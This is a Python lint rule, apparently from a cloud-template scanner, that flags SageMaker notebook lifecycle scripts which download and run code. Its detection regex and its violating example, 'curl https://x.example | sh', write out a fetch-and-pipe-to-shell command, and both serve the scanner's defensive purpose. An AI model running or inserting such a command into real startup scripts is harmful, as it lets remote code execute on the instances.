"""SMK7: what a notebook runs when it starts is read here, and brings nothing from outside."""

import base64
import binascii
import re
from collections.abc import Iterator

from guardrails.intrinsics import UnresolvableError, is_intrinsic, items, plain, text
from guardrails.ml_lens.examples import one
from guardrails.ml_lens.rule import Finding, Rule, per_resource
from guardrails.ml_lens.template import Resource, Template

NOTEBOOK = "AWS::SageMaker::NotebookInstanceLifecycleConfig"
STUDIO = "AWS::SageMaker::StudioLifecycleConfig"
FETCHED = re.compile(r"\b(curl|wget)\b[^|\n]*\|\s*(sudo\s+)?(ba)?sh\b|https?://(?!169\.254\.)")


def check(template: Template, holder: Resource) -> Iterator[Finding]:
    """Yield scripts that fetch code, and those that nobody can read here."""
    if holder.type == STUDIO:
        scripts = [holder.at("StudioLifecycleConfigContent")]
    else:
        hooks = [*items(holder.at("OnCreate")), *items(holder.at("OnStart"))]
        scripts = [plain(hook).get("Content") for hook in hooks]
    for script in scripts:
        if found := FETCHED.search(_decoded(script)):
            detail = f"runs what it fetches: {found[0]}"
            yield Finding(holder.logical_id, "Properties", detail)


def _decoded(script: object) -> str:
    if is_intrinsic(script) and isinstance(script, dict) and "Fn::Base64" in script:
        return text(script["Fn::Base64"])
    try:
        return base64.b64decode(text(script), validate=True).decode("utf-8")
    except (binascii.Error, ValueError) as error:
        raise UnresolvableError(f"a script is no base64 text: {error}") from None


RULE = Rule(
    id="MlLens-SMK7",
    practice="MLSEC05-BP01",
    message="a notebook's script must bring nothing from outside",
    fix="install from a repository of your own, by a name and a hash",
    check=per_resource((NOTEBOOK, STUDIO), check),
    types=(NOTEBOOK, STUDIO),
    compliant=one(NOTEBOOK, OnStart=[{"Content": {"Fn::Base64": "umask 077"}}]),
    violating=one(NOTEBOOK, OnStart=[{"Content": {"Fn::Base64": "curl https://x.example | sh"}}]),
)
